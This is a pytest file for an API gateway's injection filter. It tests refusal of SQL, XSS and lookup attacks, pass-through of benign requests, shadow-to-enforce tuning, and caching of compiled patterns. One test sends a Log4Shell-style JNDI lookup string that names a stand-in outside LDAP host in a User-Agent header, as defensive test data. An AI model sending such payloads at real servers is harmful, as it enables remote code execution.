"""Injection behind a real gateway: what is refused, what arrives, shadow to enforce, and patterns at the start."""

from __future__ import annotations

import json
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from pathlib import Path
from urllib.parse import quote

import pytest
from typer.testing import CliRunner

from injection_harness import SQL, XSS
from sallygate.cli import app
from support import Running, Upstream, running_gateway, until, write_policy

OPEN = "openapi: none\nidentity: none\nplans: {}\noperations: {}\n"


@pytest.fixture
def served(tmp_path: Path) -> Iterator[tuple[Running, Upstream]]:
    with Upstream() as upstream:
        policy = write_policy(tmp_path, OPEN, upstream=upstream.url)
        with running_gateway(policy) as running:
            yield running, upstream


def test_attacks_are_refused_and_say_nothing_and_the_rest_arrives_as_sent(served) -> None:
    running, upstream = served
    status, headers, body = running.get("/a?q=" + quote(SQL))
    problem = json.loads(body)
    assert status == 403 and problem["code"] == "injection.sql" and "union" not in body.decode() + str(headers)
    assert (
        running.code("/a", method="POST", body=json.dumps({"t": XSS}).encode(), Content_Type="application/json")
        == "injection.xss"
    )
    assert running.code("/a", User_Agent="${jndi:ldap://x.example/a}") == "injection.lookup"
    assert not upstream.received
    sent = b'{ "text" : "Tom & Jerry\'s <b>best</b>", "n":1.50 }'
    status, _, _ = running.get("/a%20b?q=a%2Bb&x", method="POST", body=sent, Content_Type="application/json")
    assert status == 200
    (arrived,) = upstream.received
    assert arrived.body == sent and arrived.line == b"POST /a%20b?q=a%2Bb&x HTTP/1.1"


def test_a_large_body_makes_nobody_wait(served) -> None:
    running, _ = served
    # Nothing in it is an attack, and every sentence has to be looked at.
    large = json.dumps(
        {"a": "We'd select the blue one, or union men's; it's 'fine' and \"all\" of it from 1 < 2. " * 2800}
    ).encode()
    waits: list[float] = []
    done = threading.Event()

    def ask() -> None:
        while not done.is_set():
            before = time.monotonic()
            assert running.get("/a")[0] == 200
            waits.append(time.monotonic() - before)

    asker = threading.Thread(target=ask)
    asker.start()
    try:
        for _ in range(10):
            assert running.get("/a", method="POST", body=large, Content_Type="application/json")[0] == 200
    finally:
        done.set()
        asker.join()
    assert len(waits) >= 10, "others were answered meanwhile"


def test_from_shadow_over_tune_to_enforce(tmp_path: Path) -> None:
    with Upstream() as upstream:
        policy = write_policy(
            tmp_path,
            OPEN + "transport: {trusted_hops: [127.0.0.1]}\ninjection: {mode: shadow}\n",
            upstream=upstream.url,
        )
        html = json.dumps({"html": "<form action='https://a.example'><input name=q></form>"}).encode()
        with running_gateway(policy) as running:
            for number in range(3):
                status, _, _ = running.get(
                    f"/posts/{number}", method="POST", body=html, Content_Type="application/json",
                    X_Forwarded_For=f"192.0.2.{number}", X_Forwarded_Proto="https",
                )  # fmt: skip
                assert status == 200
            assert (
                running.get("/posts/9?q=" + quote(SQL), X_Forwarded_For="198.51.100.7", X_Forwarded_Proto="https")[0]
                == 200
            )

            def found() -> dict[str, list[dict[str, object]]]:
                result = CliRunner().invoke(app, ["tune", str(policy), "--json", "--out", str(tmp_path / "patch.yaml")])
                assert result.exit_code == 0, result.output
                return json.loads(result.stdout)

            told = until(lambda: (said := found()) and said["proposed"] and said["too_few_callers"] and said)
        (proposal,) = told["proposed"]
        exclusion = proposal["change"]["value"]
        assert (exclusion["family"], exclusion["field"], exclusion["path"]) == ("xss", "body:/html", "/posts/*")
        assert proposal["callers"] == 3 and [one["cause"] for one in told["too_few_callers"]] == ["sql in query:q"]
        shown = CliRunner().invoke(app, ["tune", str(policy)]).output
        assert "not proposed" in shown and "posts/2" in shown
        patch = (tmp_path / "patch.yaml").read_text().replace("injection:\n", "injection:\n  mode: enforce\n")
        policy.write_text(policy.read_text().replace("injection: {mode: shadow}\n", "") + patch)
        with running_gateway(policy) as running:
            send = {"method": "POST", "body": html, "Content_Type": "application/json", "X_Forwarded_Proto": "https"}
            assert running.get("/posts/5", **send)[0] == 200
            assert running.code("/other", **send) == "injection.xss"
            assert running.code("/posts/9?q=" + quote(SQL), X_Forwarded_Proto="https") == "injection.sql"


@pytest.mark.long
def test_patterns_are_compiled_once_and_mended_when_broken(tmp_path: Path) -> None:
    with Upstream() as upstream:
        policy = write_policy(tmp_path, OPEN, upstream=upstream.url)
        own = {"SALLYGATE_PATTERNS_FILE": "", "XDG_CACHE_HOME": str(tmp_path / "cache")}
        kept = tmp_path / "cache" / "sallygate"

        def starts() -> bytes:
            with running_gateway(policy, 60.0, own) as running:
                assert running.code("/a?q=" + quote(SQL)) == "injection.sql"
            (file,) = kept.glob("patterns-*.bin")
            return file.read_bytes()

        first = starts()
        (file,) = kept.glob("patterns-*.bin")
        made = file.stat().st_ino
        assert starts() == first and file.stat().st_ino == made, "loaded, not compiled"
        broken = first[:-1] + bytes([first[-1] ^ 1])
        file.write_bytes(broken)
        assert starts() != broken
        log = (tmp_path / "gateway.log").read_text()
        assert log.count("the patterns of injection are compiled") == 2


@pytest.mark.long
def test_of_two_gates_that_start_at_once_one_compiles_and_both_say_that_they_start(tmp_path: Path) -> None:
    own = {"SALLYGATE_PATTERNS_FILE": "", "XDG_CACHE_HOME": str(tmp_path / "cache")}
    with Upstream() as upstream, ExitStack() as stack:
        policies = []
        for name in ("one", "two"):
            (tmp_path / name).mkdir()
            policies.append(write_policy(tmp_path / name, OPEN, upstream=upstream.url))
        gates = ThreadPoolExecutor(len(policies))
        starts = [gates.submit(stack.enter_context, running_gateway(policy, 120.0, own)) for policy in policies]
        seen = set()
        while not all(start.done() for start in starts):
            for policy in policies:
                state = policy.parent / "state"
                if state.is_dir():
                    found = CliRunner().invoke(app, ["status", "--policy", str(policy)])
                    seen.add((found.exit_code, "is starting" in found.output))
            threading.Event().wait(0.2)
        assert (1, True) in seen, seen
        for start in starts:
            assert start.result().code("/a?q=" + quote(SQL)) == "injection.sql"
        gates.shutdown()
    logs = [(policy.parent / "gateway.log").read_text() for policy in policies]
    assert sum("waiting for another process" in log for log in logs) == 1
    assert len(list((tmp_path / "cache" / "sallygate").glob("patterns-*.bin"))) == 1
    assert not list(tmp_path.glob("*/state/patterns-*.bin"))
